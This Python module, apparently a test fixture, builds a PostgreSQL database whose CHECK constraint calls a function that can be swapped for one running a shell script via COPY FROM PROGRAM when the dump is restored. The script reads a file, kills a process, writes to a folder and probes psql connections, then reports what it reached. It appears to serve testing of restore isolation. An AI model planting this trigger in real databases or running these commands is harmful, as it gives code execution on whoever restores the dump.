"""A database whose owner has hidden code in a CHECK constraint. It reports what it reaches where it is restored."""

from __future__ import annotations

from dataclasses import dataclass

PLANT = """
CREATE FUNCTION public.reached() RETURNS boolean LANGUAGE plpgsql AS 'BEGIN RETURN true; END';
CREATE TABLE public.planted (id integer CHECK (public.reached()));
INSERT INTO public.planted VALUES (1);
"""
# Its owner is no superuser there, so it does nothing on the server where it is planted.
_ARM = """
CREATE OR REPLACE FUNCTION public.reached() RETURNS boolean LANGUAGE plpgsql AS $body$
DECLARE found text;
BEGIN
  CREATE TEMP TABLE IF NOT EXISTS found (line text);
  COPY found FROM PROGRAM $sh${script}$sh$;
  SELECT pg_catalog.string_agg(line, ' ') INTO found FROM found;
  RAISE EXCEPTION 'reached: %.', found;
END $body$;
"""


@dataclass(frozen=True)
class Targets:
    """What the code tries to reach."""

    file: str
    """A file to read."""
    pid: int
    """A process to end."""
    psql: tuple[str, ...]
    """Where psql can be. The code uses the first that it finds."""
    tcp: tuple[str, int]
    socket: tuple[str, int]
    """The directory and port of a server's Unix socket."""
    folder: str
    """A directory to write into."""


def script(targets: Targets) -> str:
    """Return a shell script that prints a word for each thing that it reaches. It needs no program but psql."""
    query = "PGPASSWORD=wrong PGCONNECT_TIMEOUT=3 $psql --no-psqlrc -qAt -c 'SELECT 1'"
    answers = "2>&1 | {{ read -r answer; case $answer in *FATAL*|1) echo {};; esac; }}"
    return "\n".join(
        [
            "PATH=/usr/bin:/bin; echo user",
            f"for psql in {' '.join(targets.psql)}; do [ -x $psql ] && echo psql && break; done",
            f"{{ read -r line <{targets.file}; }} 2>/dev/null && echo file",
            f"kill -s TERM {targets.pid} 2>/dev/null && echo process",
            "[ ! -e /proc/1 ] || echo processes",
            f"{{ echo x >{targets.folder}/written; }} 2>/dev/null && echo folder",
            f"{query} -h {targets.tcp[0]} -p {targets.tcp[1]} {answers.format('tcp')}",
            f"{query} -h {targets.socket[0]} -p {targets.socket[1]} {answers.format('socket')}",
            "true",
        ]
    )


def arm(targets: Targets) -> str:
    """Return the SQL that replaces the harmless function with the hostile one."""
    return _ARM.replace("{script}", script(targets))
